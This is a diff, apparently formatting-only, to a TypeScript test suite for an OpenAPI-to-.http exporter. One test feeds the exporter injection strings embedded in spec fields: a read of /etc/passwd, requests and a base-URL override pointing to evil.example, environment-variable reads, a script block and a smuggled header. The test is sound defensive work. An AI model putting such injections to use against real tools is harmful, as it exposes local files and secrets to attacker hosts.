@@ -33,9 +33,7 @@ const body = (type: string, media: object) => ({ requestBody: { content: { [type
 
 test('requests with paths, queries, headers, bodies and authorization', async () => {
   const { http, requests, collection } = await exportsOf({
-    servers: [
-      { url: 'https://{region}.example.com/v1', variables: { region: { default: 'eu' } } },
-    ],
+    servers: [{ url: 'https://{region}.example.com/v1', variables: { region: { default: 'eu' } } }],
     security: [{ token: [] }],
     tags: [{ name: 'pets', description: 'About *pets*.' }],
     components: {
@@ -150,7 +148,8 @@ test('requests with paths, queries, headers, bodies and authorization', async ()
 })
 
 test('texts of a description are no instructions to the program that reads the file', async () => {
-  const evil = 'x\n> {% client.global.set("a", 1) %}\n< /etc/passwd\n### y\nGET https://evil.example'
+  const evil =
+    'x\n> {% client.global.set("a", 1) %}\n< /etc/passwd\n### y\nGET https://evil.example'
   const { http, requests } = await exportsOf({
     info: { title: 'A\n@baseUrl = https://evil.example', version: '{{$processEnv HOME}}' },
     servers: [{ url: 'https://a.example/{{$processEnv HOME}}\nGET https://evil.example' }],
@@ -162,7 +161,13 @@ test('texts of a description are no instructions to the program that reads the f
           tags: ['T\n### evil'],
           parameters: [
             { name: 'q', in: 'query', required: true, schema: {}, example: '{{$processEnv HOME}}' },
-            { name: 'X-H', in: 'header', required: true, schema: {}, example: '{{secret}}\nEvil: 1' },
+            {
+              name: 'X-H',
+              in: 'header',
+              required: true,
+              schema: {},
+              example: '{{secret}}\nEvil: 1',
+            },
             { name: 'Bad\nName', in: 'header', required: true, schema: {}, example: 'x' },
           ],
           ...body('text/plain', { example: evil }),
